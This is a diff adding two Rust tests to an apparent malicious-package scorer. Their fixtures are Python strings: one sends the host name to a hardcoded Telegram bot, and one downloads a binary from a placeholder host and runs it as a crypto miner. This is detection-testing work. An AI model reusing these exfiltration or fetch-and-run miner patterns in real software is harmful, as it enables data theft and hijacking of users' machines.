@@ -171,3 +171,17 @@ fn honest_packages_stay_clean() {
         assert!(score < 30, "{name} scores {score}");
     }
 }
+
+#[test]
+fn a_notice_to_the_callers_own_chat_is_no_theft() {
+    let code = "import requests, socket\nAPI = 'https://api.telegram.org/bot{}/sendMessage'\ndef notify(token, chat, text):\n    requests.post(API.format(token), json={'chat_id': chat, 'text': text})\ndef main(args):\n    notify(args.token, args.chat, socket.gethostname())\n";
+    assert!(score(&[("demo/main.py", code.as_bytes())]) < 30);
+    let own = code.replace("API.format(token)", "API.format('0:VOID')");
+    assert!(score(&[("demo/main.py", own.as_bytes())]) >= 30);
+}
+
+#[test]
+fn a_miner_that_a_function_fetches_is_found() {
+    let code = "import os, subprocess\nfrom urllib import request\ndef run(path):\n    request.urlretrieve('https://files.example/runner', path)\n    os.chmod(path, 0o700)\n    subprocess.Popen([path, '-o', 'stratum+tcp://pool.example:1'])\n";
+    assert!(score(&[("demo/downloads.py", code.as_bytes())]) >= 30);
+}
